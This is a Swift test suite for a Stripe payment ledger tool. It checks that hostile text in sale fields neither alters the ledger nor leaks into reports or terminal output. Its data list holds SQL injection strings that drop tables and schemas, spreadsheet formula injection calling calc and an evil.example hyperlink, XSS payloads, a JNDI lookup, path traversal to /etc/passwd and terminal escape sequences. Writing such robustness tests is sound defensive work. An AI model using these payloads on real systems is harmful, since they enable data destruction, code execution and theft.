import Foundation
import PostgresLedger
import ReferenceApplication
import StripeSimulator
import TestSupport
import Testing

/// Texts at Stripe that want to be something else: SQL, a formula, markup, a command of the terminal, the end of a field.
///
/// Whoever buys writes some of them, and a hostile server all. Each field of a sale holds each of them once, beside a sale
/// that is due: they end as text in the reports or are refused in a sentence, and the ledger is what it would be without.
@Suite struct HostileTextTests {
    static let texts = [
        "'; DROP TABLE public.user_credits; --", "\"; DELETE FROM tieout.correction; --",
        "$$); DROP SCHEMA tieout CASCADE; --",
        "') ON CONFLICT DO NOTHING; UPDATE public.user_credits SET balance = 9; --", "\\N", "\\.", "\\", "\\x00",
        "NULL",
        "{1,2}", "a\tb\nc\r\nd", "\u{202E}gpj.exe\u{202C}\u{2066}x\u{2069}", "=cmd|' /C calc'!A0", "+1+1", "-1+1",
        "@SUM(A1)",
        "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example\")", "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "%s%n%x%p", "${jndi:ldap://evil.example/a}", "../../../etc/passwd", "\u{1B}[2J\u{1B}]0;owned\u{7}", "\u{9B}31m",
        "\u{7F}\u{8}",
        "e" + String(repeating: "\u{301}", count: 60), "👩‍👩‍👧‍👦", "\u{FEFF}cs", "\u{FFFF}", "\u{2028}\u{2029}", "İıſß", "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    ]
    static let large = String(repeating: "L'\"\\,;=\n", count: 1 << 17)
    /// Escapes of JSON that stand for no text at all.
    static let brokenEscapes = [
        #""\ud800""#, #""\udc00x""#, #""\ud800\ud800""#, #""a\u0000b""#, #""\uD83Dx""#, "\"\u{1}\"",
    ]

    /// Where a hostile text stands.
    enum Field: String, CaseIterable, Sendable {
        case name, customer, email, currency, metadataKey, packageID, userID, credits, type, otherMetadata
    }

    /// What a run may come to: all done or something left for a person, and exactly those sessions granted; or refused as
    /// what Stripe never sends, and nothing granted.
    private func expectSound(_ ending: Ending, _ night: OneMissedSale, granting sessions: [String], orRefuses: Bool)
        throws
    {
        let isRefused = ending.status == 69 || ending.status == 78
        #expect([0, 2].contains(ending.status) || isRefused && orRefuses, "\(ending.status): \(ending.notes)")
        let expected = isRefused ? [] : sessions.sorted()
        let buyer = OneMissedSale.buyer
        let ledger = try night.database.connect()
        for statement: Statement in [
            "SELECT concat_ws(' ', user_id, amount, reference_id) AS line FROM public.credit_transactions",
            "SELECT concat_ws(' ', user_id, credits_purchased, stripe_session_id) AS line FROM public.user_credit_purchases",
            "SELECT concat_ws(' ', user_id, credits, stripe_id) AS line FROM tieout.correction WHERE action = 'grant'",
        ] {
            let lines = try ledger.query(statement).map { try $0.text("line") }.sorted()
            #expect(lines == expected.map { "\(buyer) 50 \($0)" }.sorted())
        }
        #expect(try night.balance() == Int64(50 * expected.count))
        if isRefused { #expect(ending.notes.contains("tieout: ")) } else { try expectHarmlessReports(of: night) }
        expectPrintable(ending.output)
        expectPrintable(ending.notes)
    }

    /// Nothing that a terminal would obey, or that turns a line around.
    private func expectPrintable(_ text: String) {
        let commands = text.unicodeScalars.filter { scalar in
            switch scalar.value {
            case 0x09, 0x0A: false
            case 0..<0x20, 0x7F..<0xA0, 0x200E...0x200F, 0x202A...0x202E, 0x2066...0x2069: true
            default: false
            }
        }
        #expect(
            commands.isEmpty,
            "\(commands.map { String($0.value, radix: 16) }) in \(text.debugDescription.prefix(3_000))"
        )
    }

    private func expectHarmlessReports(of night: OneMissedSale) throws {
        let folder = "\(night.program.folder.path)/reports/latest"
        let names = try FileManager.default.contentsOfDirectory(atPath: folder)
        #expect(names.contains("findings.csv"))
        for name in names where name.hasSuffix(".csv") {
            for cell in cells(of: try String(contentsOfFile: "\(folder)/\(name)", encoding: .utf8)) {
                let isNumber = Double(cell) != nil
                #expect(
                    isNumber || !["=", "+", "-", "@", "\t", "\r"].contains { cell.hasPrefix($0) },
                    "\(name): \(cell.prefix(80))"
                )
            }
        }
        let page = try String(contentsOfFile: "\(folder)/index.html", encoding: .utf8)
        #expect(!page.contains("<script>alert") && !page.contains("<img src=x"))
    }

    /// The cells of a CSV file, whatever they hold: quoted ones may hold line ends.
    private func cells(of text: String) -> [String] {
        var cells: [String] = []
        var cell = String.UnicodeScalarView()
        var isQuoted = false
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"": isQuoted.toggle()
            case ",", "\n":
                guard !isQuoted else { fallthrough }
                cells.append(String(cell))
                cell = .init()
            default: if isQuoted || scalar != "\r" { cell.append(scalar) }
            }
        }
        return cells
    }

    private static func sell(
        _ number: Int,
        _ text: JSON,
        _ plain: String,
        as field: Field,
        at time: Int64,
        in account: inout StripeAccount
    ) {
        var metadata: [(String, JSON)] = [
            ("type", field == .type ? text : "credit_purchase"),
            ("user_id", field == .userID ? text : .string(OneMissedSale.buyer)),
            ("package_id", field == .packageID ? text : "creative"), ("credits", field == .credits ? text : "50"),
        ]
        if field == .otherMetadata { metadata.append(("note", text)) }
        if field == .metadataKey { metadata.append((plain, "x")) }
        account.addSale(
            field == .name ? "\(number)\(plain)" : "hostile\(number)",
            of: 2_000,
            field == .currency ? plain : "usd",
            at: time + Int64(number),
            customer: field == .customer ? plain : "cus_B",
            email: field == .email ? plain : "b@example.com",
            metadata: .object(metadata.map { JSON.Member($0.0, $0.1) })
        )
    }

    /// The checkout rows that the application wrote as the pages were opened.
    private func promise(_ sessions: [String], at time: Int64, in night: OneMissedSale) throws {
        let application = try ReferenceApplication(night.database.connect())
        for session in sessions {
            try application.openCheckout(
                CheckoutPromise(
                    user: OneMissedSale.buyer,
                    session: session,
                    package: "creative",
                    credits: 50,
                    price: 2_000,
                    openedAt: time
                )
            )
        }
    }

    /// Fifteen at a time: twenty ungranted sales at once would look like a wrong database.
    @Test(arguments: Field.allCases, Array(stride(from: 0, to: texts.count, by: 15)))
    func aTextStaysAText(in field: Field, from first: Int) async throws {
        let night = try await OneMissedSale()
        let (time, texts) = (night.now - 40 * 3_600, Self.texts[first..<min(first + 15, Self.texts.count)])
        night.stripe.account.update { account in
            for (number, text) in texts.enumerated() {
                Self.sell(number, .string(text), text, as: field, at: time, in: &account)
            }
        }
        let named = texts.enumerated().map { number, text in
            field == .name ? "cs_test_\(number)\(text)" : "cs_test_hostile\(number)"
        }
        // There the ledger promised what was paid for, so that it is granted, under ids that are hostile or not.
        let isDue = [.name, .customer, .email, .metadataKey, .otherMetadata].contains(field)
        let granted = ["cs_test_A"] + (isDue ? named : [])
        if isDue { try promise(named, at: time, in: night) }
        let ending = try night.program.run(night.applied)
        try expectSound(ending, night, granting: granted, orRefuses: field == .currency)

        // The same again, as JSON: nothing is granted twice, and the line is one line of JSON.
        let again = try night.program.run(night.applied + ["--output", "json"])
        #expect(try again.json().number("exit_status") == Int(again.status))
        try expectSound(again, night, granting: granted, orRefuses: field == .currency)
    }

    @Test(arguments: Field.allCases)
    func aMegabyteIsAText(in field: Field) async throws {
        let night = try await OneMissedSale()
        let time = night.now - 40 * 3_600
        night.stripe.account.update {
            Self.sell(0, .string(Self.large), Self.large, as: field, at: time, in: &$0)
        }
        let isDue = [.email, .metadataKey, .otherMetadata].contains(field)
        let granted = ["cs_test_A"] + (isDue ? ["cs_test_hostile0"] : [])
        if isDue { try promise(["cs_test_hostile0"], at: time, in: night) }
        let refuses = [.name, .customer, .currency].contains(field)
        let ending = try night.program.run(night.applied)
        try expectSound(ending, night, granting: granted, orRefuses: refuses)
        #expect(ending.notes.utf8.count < 20_000 && ending.output.utf8.count < 20_000)
    }

    @Test(arguments: [Field.packageID, .userID, .otherMetadata, .type, .credits], brokenEscapes)
    func anEscapeOfNoTextIsRefusedOrReplaced(in field: Field, _ escape: String) async throws {
        let night = try await OneMissedSale()
        let time = night.now - 40 * 3_600
        night.stripe.account.update { Self.sell(0, .verbatim(escape), "", as: field, at: time, in: &$0) }
        let granted = ["cs_test_A"] + (field == .otherMetadata ? ["cs_test_hostile0"] : [])
        if field == .otherMetadata { try promise(["cs_test_hostile0"], at: time, in: night) }
        try expectSound(try night.program.run(night.applied), night, granting: granted, orRefuses: true)
    }
}
